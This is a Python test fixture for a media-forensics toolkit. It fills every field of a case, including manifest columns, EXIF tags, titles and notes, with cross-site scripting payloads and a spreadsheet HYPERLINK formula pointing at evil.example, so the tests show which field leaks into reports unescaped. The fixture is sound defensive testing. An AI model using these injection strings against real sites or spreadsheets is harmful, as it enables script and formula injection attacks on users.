"""A case whose every text field is hostile: the fixture of the injection tests (issues 17 and 19).

``hostile_case(folder)`` writes four small pictures (an origin with hostile EXIF strings, a
resized copy, a mirrored copy, an unrelated one) and a manifest whose post ids, platforms,
accounts, captions, urls, extra column and one missing media path carry script, event-handler
and ``javascript:`` payloads; the case title, analyst and a decision note do too. It runs the
metadata step, hashing, matching and spread tracing, so that every report section and app has
something to show. Each payload calls ``alert('<field>')``, so a dialog names the field that leaked.
"""

from __future__ import annotations

from pathlib import Path

__all__ = ["FIELDS", "payload", "hostile_case", "hostile_manifest"]

FIELDS = ("post_id", "platform", "account", "caption", "url", "extra", "media_path", "title",
          "analyst", "note", "exif", "conclusion")

_SHAPES = (
    "<script>alert('{f}')</script>",
    "<img src=x onerror=\"alert('{f}')\">",
    "\" onmouseover=\"alert('{f}')\" x=\"",
    "javascript:alert('{f}')",
    "<svg onload=alert('{f}')>",
    "=HYPERLINK(\"http://evil.example/{f}\",\"{f}\")",
)


def payload(field: str, shape: int = 0) -> str:
    """A hostile string for ``field``; ``shape`` picks script, img onerror, attribute break, ..."""
    return _SHAPES[shape % len(_SHAPES)].format(f=field)


def _pid(i: int) -> str:
    return f"p{i}{payload('post_id', i)}"


def hostile_manifest(folder: Path) -> Path:
    """The pictures and the manifest (CSV); returns the manifest path."""
    import csv

    import numpy as np
    from PIL import Image

    media = folder / "media"
    media.mkdir(parents=True)
    rng = np.random.default_rng(3)
    img = Image.fromarray((rng.random((24, 32, 3)) * 255).astype(np.uint8)).resize(
        (320, 240), Image.Resampling.BICUBIC)
    exif = Image.Exif()
    exif[0x0131] = "Adobe Photoshop " + payload("exif", 1)  # Software: shown as a finding
    exif[0x010E] = payload("exif", 0)  # ImageDescription
    exif[0x013B] = payload("exif", 2)  # Artist
    img.save(media / "p1.jpg", quality=92, exif=exif.tobytes())
    img.resize((200, 150)).save(media / "p2.jpg", quality=80)
    img.transpose(Image.Transpose.FLIP_LEFT_RIGHT).save(media / "p3.png")
    Image.fromarray((rng.random((120, 160, 3)) * 255).astype(np.uint8)).save(media / "p4.png")
    header = ["post_id", "platform", "account", "posted_at", "url", "media_path", "parent_post_id",
              "caption", "likes", "shares", "note_from_scraper"]
    times = ["2026-03-14T23:42:00Z", "2026-03-15T01:00:00Z", "2026-03-15T05:30:00+01:00",
             "2026-03-16T00:00:00Z", "2026-03-16T01:00:00Z"]
    files = ["media/p1.jpg", "media/p2.jpg", "media/p3.png", "media/p4.png",
             f"media/{payload('media_path', 0)}.jpg"]
    parents = ["", _pid(1), _pid(2), "", ""]
    rows = [[_pid(i + 1), payload("platform", i % 2 + 1), payload("account", i), times[i],
             payload("url", 3) if i % 2 == 0 else f"https://x.example/{i}?q={payload('url', 0)}",
             files[i], parents[i], payload("caption", 5 - i), 10 - i, i, payload("extra", i)]
            for i in range(5)]
    manifest = folder / "manifest.csv"
    with open(manifest, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return manifest


def hostile_case(folder: Path):
    """The hostile case, fully analysed (metadata, hashes, matches, spread graph, a decision)."""
    import kit.hashing
    import kit.metadata
    from kit.case import Case
    from kit.casework.spread import trace_case

    case = Case.create(folder / "case", title=payload("title", 4), analyst=payload("analyst", 1))
    case.ingest(hostile_manifest(folder / "incident"))
    case.run(kit.metadata.STEP)
    for step in kit.hashing.STEPS:
        case.run(step)
    case.match(verify=False)
    trace_case(case, content=False)
    case.record_decision("note", _pid(1), payload("note", 2), note=payload("note", 0))
    from kit.decisions import CONCLUSION_DECISION, NOTE_DECISION

    case.record_decision(CONCLUSION_DECISION, "case", payload("conclusion", 3))  # the report's first screen
    case.record_decision(NOTE_DECISION, _pid(2), payload("note", 5))
    return case
